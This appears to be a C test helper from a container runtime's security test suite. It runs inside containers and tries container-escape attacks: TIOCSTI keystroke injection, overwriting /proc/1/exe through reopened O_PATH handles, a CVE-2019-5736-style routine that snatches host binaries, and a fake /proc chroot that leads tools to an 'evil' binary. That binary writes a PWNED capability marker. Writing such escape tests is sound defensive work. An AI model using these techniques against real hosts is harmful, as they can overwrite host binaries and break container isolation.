/* SPDX-License-Identifier: GPL-2.0-or-later */
/* hostile: what a hostile container does to the host's handles that reach it. The
 * security tests (tests/integration/hostile_exec.bats) run it inside containers; each
 * subcommand tries one attack and prints what it got, and the test checks the host.
 *
 *   ttys                 one line per descriptor that is a terminal ("fd N: terminal",
 *                        and "TIOCSTI fd N: ok" when a key could be pushed into it), then
 *                        "session leader: yes|no" and "group leader: yes|no"
 *   write-exe PATH...    open each PATH (/proc/1/exe, /proc/self/exe...) for writing, then
 *                        through an O_PATH handle reopened by /proc/self/fd, append a
 *                        marker, and change its mode (to the same mode): one line each
 *   exe-snatch SECONDS   CVE-2019-5736: for SECONDS, watch the PIDs the container's
 *                        namespace hands out next, and keep a handle on the executable of
 *                        every process there that is not on the container's own file
 *                        system (a host binary caught between fork and exec): change its
 *                        mode (to the same one), and at the end append a marker to it
 *   fake-proc DIR        as PID 1: make DIR a root whose /proc is a folder of ours (its
 *                        self/fd/N and self/exe lead to DIR/evil) and whose PATH holds our
 *                        own programs, chroot into it, print "ready", and wait
 *   (any other name)     the "evil" program: append "PWNED CapEff" to /pwned and say it
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char marker[] = "\nPWNED-BY-CONTAINER\n";

static int cmd_ttys(void) {
  DIR *d = opendir("/proc/self/fd");
  if (!d) {
    perror("hostile: /proc/self/fd");
    return 2;
  }
  int self = dirfd(d);
  struct dirent *e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.')
      continue;
    int fd = atoi(e->d_name);
    if (fd == self || !isatty(fd))
      continue;
    printf("fd %d: terminal\n", fd);
    char c = ' ';
    if (ioctl(fd, TIOCSTI, &c) == 0)
      printf("TIOCSTI fd %d: ok\n", fd);
  }
  closedir(d);
  printf("session leader: %s\n", getsid(0) == getpid() ? "yes" : "no");
  printf("group leader: %s\n", getpgrp() == getpid() ? "yes" : "no");
  return 0;
}

static void try_write(const char *what, const char *path, int fd) {
  if (fd < 0) {
    printf("%s %s: %s\n", what, path, strerror(errno));
    return;
  }
  ssize_t n = write(fd, marker, sizeof marker - 1);
  printf("%s %s: %s\n", what, path, n > 0 ? "wrote" : strerror(errno));
  close(fd);
}

static int cmd_write_exe(int n, char **paths) {
  for (int i = 0; i < n; i++) {
    const char *p = paths[i];
    try_write("open-write", p, open(p, O_WRONLY | O_APPEND));
    int h = open(p, O_PATH);
    if (h < 0) {
      printf("open-path %s: %s\n", p, strerror(errno));
    } else {
      char again[64];
      snprintf(again, sizeof again, "/proc/self/fd/%d", h);
      try_write("reopen-write", p, open(again, O_WRONLY | O_APPEND));
      close(h);
    }
    int r = open(p, O_RDONLY);
    struct stat st;
    if (r >= 0 && fstat(r, &st) == 0)
      printf("fchmod %s: %s\n", p,
             fchmod(r, st.st_mode & 07777) == 0 ? "changed" : strerror(errno));
    if (r >= 0)
      close(r);
  }
  return 0;
}

static long read_last_pid(void) {
  char buf[32] = "";
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  if (fd < 0)
    return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  return n > 0 ? atol(buf) : -1;
}

static int cmd_exe_snatch(long seconds) {
  struct stat own;
  if (stat("/proc/self/exe", &own) < 0)
    return 2;
  int held[8], nheld = 0;
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    if (nheld == 8) {
      usleep(100000);
      continue;
    }
    long last = read_last_pid();
    for (long pid = last; pid > 1 && pid <= last + 1; pid++) {
      char p[64];
      snprintf(p, sizeof p, "/proc/%ld/exe", pid);
      int fd = open(p, O_RDONLY);
      if (fd < 0)
        continue;
      struct stat st;
      /* Not one of the container's files: a host binary. Keep the handle: the binary is
       * busy while it runs, not after. Changing its mode (to the same) works at once. */
      if (fstat(fd, &st) == 0 && st.st_dev != own.st_dev) {
        char target[256] = "";
        ssize_t n = readlink(p, target, sizeof target - 1);
        printf("snatched %s: fchmod %s\n", n > 0 ? target : p,
               fchmod(fd, st.st_mode & 07777) == 0 ? "changed" : strerror(errno));
        fflush(stdout);
        held[nheld++] = fd;
        break;
      }
      close(fd);
    }
  }
  for (int i = 0; i < nheld; i++) {
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", held[i]);
    try_write("reopen-write", "snatched", open(again, O_WRONLY | O_APPEND));
  }
  printf("done: %d\n", nheld);
  return 0;
}

/* Copy our own binary to path (for the fake root). */
static int copy_self(const char *path) {
  int in = open("/proc/self/exe", O_RDONLY);
  int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (in < 0 || out < 0)
    return -1;
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n)
      return -1;
  close(in);
  close(out);
  return 0;
}

static void mkdirs(const char *root, const char *const *dirs) {
  char p[512];
  for (; *dirs; dirs++) {
    snprintf(p, sizeof p, "%s/%s", root, *dirs);
    mkdir(p, 0755);
  }
}

static int cmd_fake_proc(const char *root) {
  static const char *const dirs[] = {
      "",        "proc",     "proc/self", "proc/self/fd",  "evil",           "bin", "sbin", "usr",
      "usr/bin", "usr/sbin", "usr/local", "usr/local/bin", "usr/local/sbin", "etc", NULL};
  mkdirs(root, dirs);
  char p[512];
  snprintf(p, sizeof p, "%s/evil/pwn", root);
  if (copy_self(p) < 0) {
    perror("hostile: copy");
    return 2;
  }
  /* Every applet name a toolbox shell may look up in the fake /proc/self/fd/N. */
  static const char *const names[] = {"cat",  "ls", "grep", "vi",  "sed",  "awk",  "head",
                                      "tail", "id", "ps",   "env", "sh",   "find", "wc",
                                      "sort", "tr", "cut",  "dd",  "echo", "true", NULL};
  for (const char *const *n = names; *n; n++) {
    char l[512];
    snprintf(l, sizeof l, "%s/evil/%s", root, *n);
    link(p, l);
  }
  for (int fd = 0; fd < 1024; fd++) {
    char l[512];
    snprintf(l, sizeof l, "%s/proc/self/fd/%d", root, fd);
    symlink("/evil", l);
  }
  snprintf(p, sizeof p, "%s/proc/self/exe", root);
  symlink("/evil/pwn", p);
  /* A program only the container has, on every usual PATH folder. */
  static const char *const bins[] = {"bin",           "sbin",           "usr/bin", "usr/sbin",
                                     "usr/local/bin", "usr/local/sbin", NULL};
  for (const char *const *b = bins; *b; b++) {
    char l[512];
    snprintf(l, sizeof l, "%s/%s/evilcmd", root, *b);
    snprintf(p, sizeof p, "%s/evil/pwn", root);
    link(p, l);
  }
  if (chroot(root) < 0 || chdir("/") < 0) {
    perror("hostile: chroot");
    return 2;
  }
  printf("ready\n");
  fflush(stdout);
  for (;;)
    pause();
}

static int evil(const char *name) {
  /* capget(2), not /proc/self/status: the /proc we see may be a fake one. */
  struct __user_cap_header_struct h = {.version = _LINUX_CAPABILITY_VERSION_3};
  struct __user_cap_data_struct d[2] = {{0}};
  unsigned long long eff = 0;
  if (syscall(SYS_capget, &h, d) == 0)
    eff = (unsigned long long)d[1].effective << 32 | d[0].effective;
  int fd = open("/pwned", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd >= 0) {
    dprintf(fd, "PWNED %s CapEff=%016llx\n", name, eff);
    close(fd);
  }
  printf("PWNED %s CapEff=%016llx\n", name, eff);
  return 0;
}

int main(int argc, char **argv) {
  const char *base = strrchr(argv[0], '/');
  base = base ? base + 1 : argv[0];
  if (strcmp(base, "hostile") != 0)
    return evil(base);
  if (argc < 2) {
    fprintf(stderr, "usage: hostile ttys|write-exe PATH...|exe-snatch SECONDS|fake-proc DIR\n");
    return 2;
  }
  const char *c = argv[1];
  if (!strcmp(c, "ttys"))
    return cmd_ttys();
  if (!strcmp(c, "write-exe"))
    return cmd_write_exe(argc - 2, argv + 2);
  if (!strcmp(c, "exe-snatch") && argc == 3)
    return cmd_exe_snatch(atol(argv[2]));
  if (!strcmp(c, "fake-proc") && argc == 3)
    return cmd_fake_proc(argv[2]);
  fprintf(stderr, "hostile: unknown command %s\n", c);
  return 2;
}
